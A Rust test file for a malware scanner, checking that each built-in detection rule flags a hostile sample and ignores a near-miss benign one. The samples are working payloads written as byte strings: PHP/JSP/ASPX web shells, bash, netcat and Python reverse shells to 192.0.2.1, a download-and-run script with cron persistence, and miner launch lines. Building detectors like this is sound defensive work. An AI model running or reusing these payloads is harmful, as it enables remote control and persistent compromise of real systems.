//! The built-in rules: each finds what it is for, and leaves alone what only looks like it.

#![allow(clippy::unwrap_used, reason = "what is missing in a test fails it")]

use std::{fs, time::Duration};

use yinglong_model::scan::{Reason, Request};
use yinglong_scanner::{
    look::{Limits, Look},
    rules::{self, Loaded},
};

const LIMITS: Limits = Limits {
    bytes: 10 << 20,
    time: Duration::from_secs(10),
};

fn names(loaded: &Loaded, reason: Reason, content: &[u8]) -> Vec<String> {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("sample");
    fs::write(&path, content).unwrap();
    let request = Request {
        id: 1,
        path: path.to_str().unwrap().to_owned(),
        reason,
        handed: false,
    };
    let answer = Look::new(&loaded.rules, LIMITS).at(&request, None);
    assert_eq!(answer.skipped, None);
    answer.matches.into_iter().map(|found| found.rule).collect()
}

/// The head of a program for this machine, of a kind (2 program, 3 library), and what follows.
fn elf(kind: u8, content: &str) -> Vec<u8> {
    let mut bytes = vec![0; 64];
    bytes[..7].copy_from_slice(b"\x7fELF\x02\x01\x01");
    bytes[16] = kind;
    bytes[18] = 62;
    bytes.extend_from_slice(content.as_bytes());
    bytes
}

/// Rule, why the file is looked at, what matches it, what does not.
type Sample = (&'static str, Reason, Vec<u8>, Vec<u8>);

fn samples() -> Vec<Sample> {
    let text = |text: &str| text.as_bytes().to_vec();
    vec![
        (
            "php_request_to_code",
            Reason::Web,
            text("<?php @eval($_POST['x']); ?>"),
            text(
                "<?php $page = $_GET['page']; echo evaluate(htmlspecialchars($page)); system('date');",
            ),
        ),
        (
            "php_request_to_code",
            Reason::Web,
            text("<?= `id; $_GET[c]` ?>"),
            text("<?php // use `code` for $_GET parameters\n echo 1;"),
        ),
        (
            "php_decoded_code",
            Reason::Web,
            text("<?php eval(gzinflate(base64_decode('c3lzdGVt')));"),
            text("<?php $image = base64_decode($row['image']); $ok = evaluation(strrev($x));"),
        ),
        (
            "php_request_names_function",
            Reason::Web,
            text("<?php $_GET['f']($_POST['a']);"),
            text(
                "<?php $page = isset($_GET['f']) ? trim($_POST['a']) : ''; usort($list, 'by_name');",
            ),
        ),
        (
            "jsp_request_to_process",
            Reason::Web,
            text("<% Process p = Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"),
            text(
                "<% long free = Runtime.getRuntime().freeMemory(); String q = request.getParameter(\"q\"); %>",
            ),
        ),
        (
            "jsp_request_to_class",
            Reason::Web,
            text(
                "<%! class U extends ClassLoader { Class g(byte[] b) { return defineClass(b, 0, b.length); } } %>\
                  <% new U().g(decode(request.getParameter(\"p\"))).newInstance(); %>",
            ),
            text(
                "<% ClassLoader l = getClass().getClassLoader(); String p = request.getParameter(\"p\"); %>",
            ),
        ),
        (
            "aspx_request_to_code",
            Reason::Web,
            text("<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"z\"],\"unsafe\");%>"),
            text(
                "<%@ Page Language=\"C#\" %><%= Eval(\"Name\") %><% var q = Request.QueryString[\"q\"]; %>",
            ),
        ),
        (
            "miner_program",
            Reason::Exec,
            elf(2, "url stratum+tcp://pool --donate-level RandomX dataset"),
            elf(2, "protocol stratum+tcp:// is blocked; cryptonight"),
        ),
        (
            "miner_start_script",
            Reason::Exec,
            text("#!/bin/sh\n./x -o stratum+tcp://pool.example.net:3333 -u w --donate-level=1\n"),
            text("#!/bin/sh\ncurl -o page.html http://example.net:8080/ --cpu-max 2\n"),
        ),
        (
            "reverse_shell_of_shell",
            Reason::Exec,
            text("#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n"),
            text("#!/bin/bash\n: < /dev/tcp/192.0.2.1/443 && echo reachable\nbash -i\n"),
        ),
        (
            "reverse_shell_of_shell",
            Reason::Exec,
            text(
                "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f\n",
            ),
            text("mkfifo /tmp/f; gzip -c < /tmp/f | nc 192.0.2.1 4444\n"),
        ),
        (
            "reverse_shell_of_language",
            Reason::Exec,
            text(
                "import socket,os,pty\ns=socket.socket()\ns.connect((\"192.0.2.1\",1))\n\
                  os.dup2(s.fileno(),0)\npty.spawn(\"/bin/sh\")\n",
            ),
            text(
                "import socket, subprocess\ns = socket.socket()\ns.connect((host, 1))\n\
                  subprocess.run([\"/bin/sh\", \"-c\", \"uptime\"])\n",
            ),
        ),
        (
            "download_and_settle",
            Reason::Exec,
            text(
                "#!/bin/sh\ncurl -s http://192.0.2.1/k -o /tmp/.k\nchmod +x /tmp/.k\n/tmp/.k\n\
                  (crontab -l; echo '* * * * * /tmp/.k') | crontab -\n",
            ),
            text(
                "#!/bin/sh\ncurl -s https://example.net/setup -o /tmp/setup\nchmod +x /tmp/setup\n/tmp/setup\n",
            ),
        ),
        (
            "preload_library_hides",
            Reason::Exec,
            elf(
                3,
                "\0readdir\0fopen\0dlsym\0/etc/ld.so.preload\0/proc/self/fd/%d\0",
            ),
            elf(3, "\0readdir\0fopen\0dlsym\0/proc/self/fd/%d\0"),
        ),
    ]
}

#[test]
fn each_rule_finds_its_sample_and_leaves_the_near_miss_alone() {
    let loaded = rules::load(None).unwrap();
    for (rule, reason, sample, near_miss) in samples() {
        let found = names(&loaded, reason, &sample);
        assert!(found.contains(&rule.to_owned()), "{rule}: {found:?}");
        let found = names(&loaded, reason, &near_miss);
        assert!(found.is_empty(), "near miss of {rule}: {found:?}");
    }
}

#[test]
fn every_built_in_rule_has_a_sample_a_description_and_a_level() {
    let loaded = rules::load(None).unwrap();
    assert_eq!(loaded.broken, Vec::<String>::new());
    let samples = samples();
    for rule in loaded.rules.iter() {
        let name = rule.identifier();
        assert!(samples.iter().any(|sample| sample.0 == name), "{name}");
        let meta: Vec<&str> = rule.metadata().map(|(key, _)| key).collect();
        assert_eq!(meta, ["description", "level"], "{name}");
        assert_ne!(rule.tags().len(), 0, "{name}");
    }
    assert!((8..=12).contains(&loaded.count), "{}", loaded.count);
}

#[test]
fn what_makes_a_page_a_web_shell_is_not_looked_for_in_programs() {
    let loaded = rules::load(None).unwrap();
    let shell = b"<?php @eval($_POST['x']); ?>";
    assert_eq!(names(&loaded, Reason::Exec, shell), Vec::<String>::new());
}

#[test]
fn a_folder_replaces_the_built_in_rules_and_a_broken_file_harms_no_other() {
    let dir = tempfile::tempdir().unwrap();
    let rule = |name: &str, text: &str| {
        format!("rule {name} {{ strings: $a = \"{text}\" condition: $a and reason == \"web\" }}")
    };
    fs::write(dir.path().join("a.yar"), rule("same", "alpha")).unwrap();
    fs::write(
        dir.path().join("b.yar"),
        format!(
            "{} rule broken {{ condition: nothing }}",
            rule("kept", "beta")
        ),
    )
    .unwrap();
    fs::write(dir.path().join("c.yara"), rule("same", "gamma")).unwrap();
    fs::write(dir.path().join("d.yar"), b"\xff\xfe").unwrap();
    fs::write(dir.path().join("e.yar"), "include \"/etc/passwd\"").unwrap();
    fs::write(dir.path().join("notes.txt"), "no rule").unwrap();

    let loaded = rules::load(Some(dir.path())).unwrap();
    assert_eq!(loaded.count, 2);
    let files: Vec<&str> = loaded.broken.iter().map(|text| &text[..5]).collect();
    assert_eq!(files, ["d.yar", "b.yar", "e.yar"]);
    assert_eq!(
        names(&loaded, Reason::Web, b"alpha gamma"),
        ["same", "same"]
    );
    assert_eq!(names(&loaded, Reason::Web, b"beta"), Vec::<String>::new());
}

#[test]
fn a_folder_that_is_not_there_is_an_error() {
    let dir = tempfile::tempdir().unwrap();
    let missing = rules::load(Some(&dir.path().join("none")));
    assert!(missing.is_err_and(|error| error.to_string().contains("none")));
}
